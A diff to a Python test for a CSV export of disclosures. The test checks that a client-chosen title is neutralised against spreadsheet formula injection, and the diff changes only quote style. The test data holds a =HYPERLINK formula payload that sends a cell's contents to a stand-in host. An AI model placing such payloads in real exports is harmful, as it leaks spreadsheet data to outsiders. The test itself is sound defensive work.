@@ -52,10 +52,10 @@ def test_non_text_values_are_neutral_too(value: object) -> None:
 
 def test_the_disclosure_export_neutralises_a_client_chosen_title() -> None:
     at = datetime(2026, 1, 1, tzinfo=UTC)
-    d = StoredDisclosure(1, "REF-1", "=HYPERLINK(\"https://x.example/?\"&A1)", "@tenant", at, at, at, "0" * 64)
+    d = StoredDisclosure(1, "REF-1", '=HYPERLINK("https://x.example/?"&A1)', "@tenant", at, at, at, "0" * 64)
     out = io.StringIO(newline="")
     assert write_disclosures([d], "csv", out) == 1
     header, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
     cells = dict(zip(header, row, strict=True))
-    assert cells["title"] == "'=HYPERLINK(\"https://x.example/?\"&A1)"
+    assert cells["title"] == '\'=HYPERLINK("https://x.example/?"&A1)'
     assert cells["tenant"] == "'@tenant"
